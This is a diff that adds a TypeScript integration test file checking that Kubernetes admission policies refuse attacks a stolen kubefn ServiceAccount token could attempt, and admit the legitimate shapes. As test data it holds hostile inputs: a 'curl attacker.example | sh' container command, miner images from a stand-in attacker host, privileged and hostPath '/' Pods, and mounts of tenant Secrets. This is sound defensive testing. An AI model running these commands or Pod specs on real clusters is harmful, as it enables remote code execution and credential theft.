@@ -1,0 +1,504 @@
+/**
+ * Issue 20, "A stolen kubefn token": what kubefn's own identity (the kubefn-system/kubefn
+ * ServiceAccount's token, used outside kubefn) could do within the verbs RBAC grants it, and that
+ * the API server refuses it — the admission policies of infra/rbac/admission-policy-shapes.yaml
+ * pin every write to the shape kubefn's code makes:
+ *
+ * 1. an owner or a foreign finalizer on a tenant's Proxy or SubPool (the garbage collector would
+ *    delete a Proxy, or a SubPool with its namespace and data, once the owner does not exist);
+ * 2. a proxy instance Pod of another shape than the pod provider builds (node-critical priority,
+ *    a node, host ports and namespaces, privileges, host paths, tolerations, unbounded resources,
+ *    or an image the installer did not allow), in any namespace;
+ * 3. a workload in kubefn-system that is not a Site component's image and ServiceAccount;
+ * 4. an HTTPRoute in a SubPool's namespace serving a hostname that is not that SubPool's to claim.
+ *
+ * Each attack is shown refused, and the shape kubefn really writes is shown admitted.
+ */
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { proxyFinalizer, proxyResource } from "../../shared/controllers/proxy/api.ts";
+import { buildPod, type Pod } from "../../shared/controllers/proxy/providers/kubernetes.ts";
+import { nameFromUID, ownerTags } from "../../shared/controllers/proxy/providers/provider.ts";
+import { subPoolFinalizer, subPoolResource } from "../../shared/controllers/subpool/api.ts";
+import { httpRouteResource } from "../../shared/controllers/subpool/desired.ts";
+import {
+  ConflictError,
+  ForbiddenError,
+  isNotFound,
+  type Kube,
+  type KubeObject,
+  type Resource,
+  Resources,
+} from "../../shared/kube/index.ts";
+import { adminKube, kubefnKube } from "../security/tenants.ts";
+
+const suffix = Date.now().toString(36);
+const victims = `stolen-${suffix}`;
+const pool = `stolen-${suffix}`;
+const otherPool = `other-${suffix}`;
+const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
+
+let admin: Kube;
+let kubefn: Kube;
+
+/**
+ * Tries `write` as kubefn until the API server refuses it with 403 (a policy takes effect a
+ * moment after it is created: an early success is undone and tried again) and returns the
+ * refusal's message; fails when the API server still took the write after 15 s.
+ */
+async function refused(
+  what: string,
+  write: () => Promise<unknown>,
+  undo: () => Promise<void>,
+): Promise<string> {
+  const deadline = Date.now() + 15_000;
+  for (;;) {
+    try {
+      await write();
+    } catch (err) {
+      if (err instanceof ForbiddenError) return (err as Error).message;
+      throw new Error(`${what}: ${(err as Error).message}`, { cause: err });
+    }
+    await undo();
+    if (Date.now() > deadline) throw new Error(`${what}: the API server took it (no 403 after 15 s)`);
+    await sleep(250);
+  }
+}
+
+async function deleteNow(res: Resource, key: { namespace?: string; name: string }): Promise<void> {
+  try {
+    await admin.delete(res, key, { gracePeriodSeconds: 0 });
+  } catch (err) {
+    if (!isNotFound(err)) throw err;
+  }
+  for (;;) {
+    try {
+      await admin.get(res, key);
+    } catch (err) {
+      if (isNotFound(err)) return;
+      throw err;
+    }
+    await sleep(100);
+  }
+}
+
+beforeAll(async () => {
+  admin = adminKube();
+  kubefn = await kubefnKube(admin);
+  await admin.create(Resources.Namespace, {
+    apiVersion: "v1",
+    kind: "Namespace",
+    metadata: { name: victims },
+  });
+}, 120_000);
+
+afterAll(async () => {
+  for (const name of [victims, `subpool-${pool}`, `subpool-${otherPool}`]) {
+    await admin?.delete(Resources.Namespace, { name }).catch(() => {});
+  }
+  for (const name of [pool, otherPool]) {
+    await admin
+      ?.patch(subPoolResource, { name }, { type: "merge", body: { metadata: { finalizers: null } } })
+      .catch(() => {});
+    await admin?.delete(subPoolResource, { name }).catch(() => {});
+  }
+});
+
+describe("attack 1: an owner or a foreign finalizer on a tenant's primary", () => {
+  type Primary = { res: Resource; key: { namespace?: string; name: string }; own: string };
+  const proxy: Primary = {
+    res: proxyResource,
+    key: { namespace: victims, name: "tenant-proxy" },
+    own: proxyFinalizer,
+  };
+  const subPool: Primary = { res: subPoolResource, key: { name: pool }, own: subPoolFinalizer };
+
+  beforeAll(async () => {
+    await admin.create(proxyResource, {
+      apiVersion: "crawl.kubefn.dev/v1alpha1",
+      kind: "Proxy",
+      metadata: { name: proxy.key.name, namespace: victims },
+      spec: { mode: "External", endpoint: { host: "proxy.tenant.example", port: 3128 } },
+    });
+    await admin.create(subPoolResource, {
+      apiVersion: `${subPoolResource.group}/${subPoolResource.version}`,
+      kind: "SubPool",
+      metadata: { name: pool },
+      spec: {
+        exposure: { mode: "Internal" },
+        storage: { size: "1Gi" },
+        cpa: {
+          image: "ghcr.io/subrelay/cpa:1.4.0",
+          resources: { requests: { cpu: "100m", memory: "64Mi" } },
+        },
+        cpaManager: {
+          image: "ghcr.io/subrelay/cpa-manager:1.4.0",
+          resources: { requests: { cpu: "100m", memory: "64Mi" } },
+        },
+      },
+    });
+  });
+
+  const metadataPatch = (metadata: Record<string, unknown>) => ({
+    type: "merge" as const,
+    body: { metadata },
+  });
+
+  it.each([
+    ["Proxy", proxy],
+    ["SubPool", subPool],
+  ])(
+    "kubefn's token cannot give a tenant's %s an owner that does not exist (the garbage collector would delete it)",
+    async (_, p) => {
+      const owner = {
+        apiVersion: "v1",
+        kind: "ConfigMap",
+        name: "gone",
+        uid: crypto.randomUUID(),
+      };
+      const message = await refused(
+        `ownerReferences on ${p.key.name}`,
+        () => kubefn.patch(p.res, p.key, metadataPatch({ ownerReferences: [owner] })),
+        () => admin.patch(p.res, p.key, metadataPatch({ ownerReferences: null })).then(() => {}),
+      );
+      expect(message).toMatch(/never sets the owner/);
+      const after = await admin.get(p.res, p.key);
+      expect(after.metadata.ownerReferences).toBeUndefined();
+      expect(after.metadata.deletionTimestamp).toBeUndefined();
+    },
+  );
+
+  it.each([
+    ["Proxy", proxy],
+    ["SubPool", subPool],
+  ])(
+    "kubefn's token cannot add or remove a finalizer that is not kubefn's on a tenant's %s; its own still goes through",
+    async (_, p) => {
+      const message = await refused(
+        `a foreign finalizer on ${p.key.name}`,
+        () => kubefn.patch(p.res, p.key, metadataPatch({ finalizers: ["example.com/hold-forever"] })),
+        () => admin.patch(p.res, p.key, metadataPatch({ finalizers: null })).then(() => {}),
+      );
+      expect(message).toMatch(/only its own finalizer/);
+      // A tenant's own finalizer (another controller's) is not kubefn's to remove.
+      await admin.patch(p.res, p.key, metadataPatch({ finalizers: ["example.com/tenant-hold"] }));
+      await refused(
+        `removing a tenant's finalizer from ${p.key.name}`,
+        () => kubefn.patch(p.res, p.key, metadataPatch({ finalizers: [] })),
+        () =>
+          admin
+            .patch(p.res, p.key, metadataPatch({ finalizers: ["example.com/tenant-hold"] }))
+            .then(() => {}),
+      );
+      // What kubefn does: add its finalizer beside the tenant's, and remove it again.
+      await kubefn.patch(p.res, p.key, metadataPatch({ finalizers: ["example.com/tenant-hold", p.own] }));
+      await kubefn.patch(p.res, p.key, metadataPatch({ finalizers: ["example.com/tenant-hold"] }));
+      expect((await admin.get(p.res, p.key)).metadata.finalizers).toEqual(["example.com/tenant-hold"]);
+      await admin.patch(p.res, p.key, metadataPatch({ finalizers: null }));
+    },
+  );
+});
+
+describe("attack 2: a proxy instance Pod of another shape than the pod provider builds", () => {
+  const uid = crypto.randomUUID();
+  const name = nameFromUID(uid);
+  /** What the pod provider creates for a Proxy with `uid` (with cloud-init), in `namespace`. */
+  const built = (namespace = victims): Pod =>
+    buildPod({
+      name,
+      namespace,
+      cloudInit: "#cloud-config\n",
+      instance: { labels: { team: "a" } },
+      tags: ownerTags(uid),
+    });
+  const spec = (pod: Pod) => pod.spec as NonNullable<Pod["spec"]> & Record<string, unknown>;
+  const container = (pod: Pod) => spec(pod).containers[0] as Record<string, unknown>;
+
+  const variants: Array<[string, (pod: Pod) => void]> = [
+    ["priorityClassName system-node-critical", (p) => (spec(p).priorityClassName = "system-node-critical")],
+    ["a nodeName", (p) => (spec(p).nodeName = "control-plane")],
+    ["a nodeSelector", (p) => (spec(p).nodeSelector = { "kubernetes.io/hostname": "control-plane" })],
+    ["a hostPort", (p) => (container(p).ports = [{ containerPort: 3128, hostPort: 3128, protocol: "TCP" }])],
+    ["hostNetwork", (p) => (spec(p).hostNetwork = true)],
+    ["hostPID", (p) => (spec(p).hostPID = true)],
+    ["a privileged container", (p) => (container(p).securityContext = { privileged: true })],
+    [
+      "an added capability",
+      (p) =>
+        (container(p).securityContext = {
+          allowPrivilegeEscalation: false,
+          capabilities: { add: ["NET_ADMIN"] },
+        }),
+    ],
+    ["running as root", (p) => (container(p).securityContext = { runAsUser: 0, runAsNonRoot: false })],
+    ["a hostPath volume", (p) => spec(p).volumes?.push({ name: "root", hostPath: { path: "/" } } as never)],
+    [
+      "another Secret mounted (a tenant's credentials)",
+      (p) =>
+        spec(p).volumes?.splice(0, 1, { name: "cloud-init", secret: { secretName: "database-password" } }),
+    ],
+    ["a toleration of every taint", (p) => (spec(p).tolerations = [{ operator: "Exists" }])],
+    [
+      "unbounded resources",
+      (p) => (container(p).resources = { requests: { cpu: "64", memory: "512Gi" }, limits: { cpu: "64" } }),
+    ],
+    ["an extended resource", (p) => (container(p).resources = { limits: { "nvidia.com/gpu": "8" } })],
+    ["an image the installer did not allow", (p) => (container(p).image = "attacker.example/miner:1")],
+    ["a command of its own", (p) => (container(p).command = ["/bin/sh", "-c", "curl attacker.example | sh"])],
+    [
+      "a Secret in its environment",
+      (p) => (container(p).envFrom = [{ secretRef: { name: "database-password" } }]),
+    ],
+    [
+      "an init container",
+      (p) => (spec(p).initContainers = [{ name: "i", image: "ghcr.io/kubefn/forward-proxy:1" }]),
+    ],
+    [
+      "a second container",
+      (p) => spec(p).containers.push({ name: "miner", image: "ghcr.io/kubefn/forward-proxy:1" }),
+    ],
+    ["a name that is not its owner's (px-<uid>)", (p) => (p.metadata.name = "px-00000000000000000000")],
+    ["a runtime class", (p) => (spec(p).runtimeClassName = "unconfined")],
+  ];
+
+  it.each(variants)("kubefn's token cannot create a px-* Pod with %s", async (what, change) => {
+    const pod = built();
+    change(pod);
+    await refused(
+      what,
+      () => kubefn.create(Resources.Pod, pod),
+      () => deleteNow(Resources.Pod, { namespace: victims, name: pod.metadata.name }),
+    );
+  });
+
+  it("kubefn's token cannot create a Pod of any other name, in kubefn-system or a SubPool's namespace either", async () => {
+    for (const namespace of ["kubefn-system", `subpool-${pool}`]) {
+      if (namespace !== "kubefn-system") {
+        await admin
+          .create(Resources.Namespace, {
+            apiVersion: "v1",
+            kind: "Namespace",
+            metadata: { name: namespace, labels: { "app.kubernetes.io/managed-by": "subpool-operator" } },
+          })
+          .catch(() => {});
+      }
+      const pod = built(namespace);
+      pod.metadata.name = "miner";
+      await refused(
+        `a Pod named miner in ${namespace}`,
+        () => kubefn.create(Resources.Pod, pod),
+        () => deleteNow(Resources.Pod, { namespace, name: "miner" }),
+      );
+    }
+  });
+
+  it("the Pod the provider builds is admitted, with the default image and an allowed one", async () => {
+    for (const image of [undefined, "ghcr.io/kubefn/forward-proxy:1.2"]) {
+      const pod = built();
+      if (image) container(pod).image = image;
+      await kubefn.create(Resources.Pod, pod);
+      await deleteNow(Resources.Pod, { namespace: victims, name });
+    }
+    // Without cloud-init too.
+    const bare = buildPod({ name, namespace: victims, instance: {}, tags: ownerTags(uid) });
+    await kubefn.create(Resources.Pod, bare);
+    await deleteNow(Resources.Pod, { namespace: victims, name });
+    // And where the namespace's default ServiceAccount names pull Secrets (admission copies them in).
+    for (;;) {
+      try {
+        await admin.patch(
+          Resources.ServiceAccount,
+          { namespace: victims, name: "default" },
+          { type: "merge", body: { imagePullSecrets: [{ name: "registry-credentials" }] } },
+        );
+        break;
+      } catch (err) {
+        if (!isNotFound(err)) throw err;
+        await sleep(200);
+      }
+    }
+    const created = await kubefn.create<Pod>(Resources.Pod, built());
+    expect(created.spec).toMatchObject({ imagePullSecrets: [{ name: "registry-credentials" }] });
+    await deleteNow(Resources.Pod, { namespace: victims, name });
+  });
+});
+
+describe("attack 3: workloads in kubefn-system other than the Site components", () => {
+  const deployment = (name: string, image: string, serviceAccountName: string): KubeObject => ({
+    apiVersion: "apps/v1",
+    kind: "Deployment",
+    metadata: {
+      name,
+      namespace: "kubefn-system",
+      labels: { "app.kubernetes.io/name": name, "app.kubernetes.io/managed-by": "unbounded-operator" },
+    },
+    spec: {
+      replicas: 1,
+      selector: { matchLabels: { "app.kubernetes.io/name": name } },
+      template: {
+        metadata: { labels: { "app.kubernetes.io/name": name } },
+        spec: { serviceAccountName, containers: [{ name, image }] },
+      },
+    },
+  });
+  // Named apart from the Site tests' components (any name is a component's to the policy).
+  const name = `machina-${suffix}`;
+  const undo = () => deleteNow(Resources.Deployment, { namespace: "kubefn-system", name });
+
+  it("kubefn's token cannot run an image of its choosing there, even as a component's ServiceAccount", async () => {
+    const message = await refused(
+      "a miner as machina",
+      () => kubefn.create(Resources.Deployment, deployment(name, "attacker.example/miner:1", "machina")),
+      undo,
+    );
+    expect(message).toMatch(/image/);
+    // Nor slip it in as an init container beside the right image.
+    const sneaky = deployment(name, "ghcr.io/unbounded-cloud/machina:v1", "machina");
+    (sneaky.spec as { template: { spec: Record<string, unknown> } }).template.spec.initContainers = [
+      { name: "i", image: "attacker.example/miner:1" },
+    ];
+    await refused("an init container", () => kubefn.create(Resources.Deployment, sneaky), undo);
+  });
+
+  it("kubefn's token cannot run a component's image as another ServiceAccount of kubefn-system", async () => {
+    const message = await refused(
+      "machina as the installer's ServiceAccount",
+      () =>
+        kubefn.create(
+          Resources.Deployment,
+          deployment(name, "ghcr.io/unbounded-cloud/machina:v1", "kubefn-installer"),
+        ),
+      undo,
+    );
+    expect(message).toMatch(/ServiceAccount/);
+  });
+
+  it("a component as the Site operator applies it is admitted", async () => {
+    await kubefn.create(
+      Resources.Deployment,
+      deployment(name, "ghcr.io/unbounded-cloud/machina:v1", "machina"),
+    );
+    await undo();
+  });
+});
+
+describe("attack 4: an HTTPRoute serving a hostname that is not its SubPool's", () => {
+  const route = (id: string, hostnames: string[]): KubeObject => ({
+    apiVersion: "gateway.networking.k8s.io/v1",
+    kind: "HTTPRoute",
+    metadata: {
+      name: `${id}-cpa`,
+      namespace: `subpool-${id}`,
+      labels: { "app.kubernetes.io/managed-by": "subpool-operator" },
+    },
+    spec: {
+      parentRefs: [
+        { group: "gateway.networking.k8s.io", kind: "Gateway", name: "shared", namespace: "gateway-system" },
+      ],
+      hostnames,
+      rules: [{ backendRefs: [{ group: "", kind: "Service", name: `${id}-cpa`, port: 8317, weight: 1 }] }],
+    },
+  });
+  const undo = (id: string) => () =>
+    deleteNow(httpRouteResource, { namespace: `subpool-${id}`, name: `${id}-cpa` });
+
+  beforeAll(async () => {
+    for (const id of [pool, otherPool]) {
+      await admin
+        .create(Resources.Namespace, {
+          apiVersion: "v1",
+          kind: "Namespace",
+          metadata: { name: `subpool-${id}`, labels: { "app.kubernetes.io/managed-by": "subpool-operator" } },
+        })
+        .catch(() => {});
+    }
+  });
+
+  it("kubefn's token cannot make a SubPool's route serve another SubPool's hostname, or one no SubPool may claim", async () => {
+    // The devcluster's installer lets SubPools claim `<id>.pools.example.test` (test/setup/devcluster.ts).
+    const message = await refused(
+      "another pool's hostname",
+      () => kubefn.create(httpRouteResource, route(pool, [`${otherPool}.pools.example.test`])),
+      undo(pool),
+    );
+    expect(message).toMatch(/hostname/);
+    await refused(
+      "a hostname outside the installer's",
+      () => kubefn.create(httpRouteResource, route(pool, ["login.bank.example"])),
+      undo(pool),
+    );
+    await refused(
+      "a second hostname beside its own",
+      () =>
+        kubefn.create(httpRouteResource, route(pool, [`${pool}.pools.example.test`, "login.bank.example"])),
+      undo(pool),
+    );
+    await refused(
+      "a wildcard",
+      () => kubefn.create(httpRouteResource, route(pool, ["*.pools.example.test"])),
+      undo(pool),
+    );
+  });
+
+  it("kubefn's token cannot widen the hostnames SubPools may claim (the installer's ConfigMap is not kubefn's)", async () => {
+    const hostnames = await admin.get(Resources.ConfigMap, {
+      namespace: "kubefn-system",
+      name: "kubefn-subpool-hostnames",
+    });
+    await expect(
+      kubefn.update(Resources.ConfigMap, { ...hostnames, data: { evil: "*" } }),
+    ).rejects.toBeInstanceOf(ForbiddenError);
+  });
+
+  it("kubefn's token cannot create an allow-list or the status writers where the installer has none (labelled as a Site component's)", async () => {
+    // Created before admission's storage check: a 409 would mean the API server admitted it.
+    for (const name of ["kubefn-subpool-hostnames", "kubefn-proxy-images", "kubefn-status-writers"]) {
+      const message = await refused(
+        `ConfigMap ${name}`,
+        () =>
+          kubefn.create(Resources.ConfigMap, {
+            apiVersion: "v1",
+            kind: "ConfigMap",
+            metadata: {
+              name,
+              namespace: "kubefn-system",
+              labels: {
+                "app.kubernetes.io/managed-by": "unbounded-operator",
+                "unbounded-cloud.io/site": "x",
+              },
+            },
+            data: { evil: "*" },
+          }),
+        async () => {},
+      );
+      expect(message).toMatch(/installer/);
+    }
+  });
+
+  it("the route the SubPool operator writes, its own hostname, is admitted and may be updated, but not to another's", async () => {
+    const key = { namespace: `subpool-${pool}`, name: `${pool}-cpa` };
+    await kubefn.create(httpRouteResource, route(pool, [`${pool}.pools.example.test`]));
+    // As ensureObject does: read, then update (again on a conflict with the Gateway's status writes).
+    const update = async (as: Kube, hostnames: string[]) => {
+      for (;;) {
+        const live = await as.get<KubeObject & { spec: Record<string, unknown> }>(httpRouteResource, key);
+        try {
+          return await as.update(httpRouteResource, {
+            ...live,
+            metadata: { ...live.metadata, annotations: { touched: "yes" } },
+            spec: { ...live.spec, hostnames },
+          });
+        } catch (err) {
+          if (!(err instanceof ConflictError)) throw err;
+        }
+      }
+    };
+    await update(kubefn, [`${pool}.pools.example.test`]);
+    const message = await refused(
+      "an update to another pool's hostname",
+      () => update(kubefn, [`${otherPool}.pools.example.test`]),
+      () => update(admin, [`${pool}.pools.example.test`]).then(() => {}),
+    );
+    expect(message).toMatch(/serves one hostname that SubPool may claim/);
+    await deleteNow(httpRouteResource, { namespace: `subpool-${pool}`, name: `${pool}-cpa` });
+  });
+});
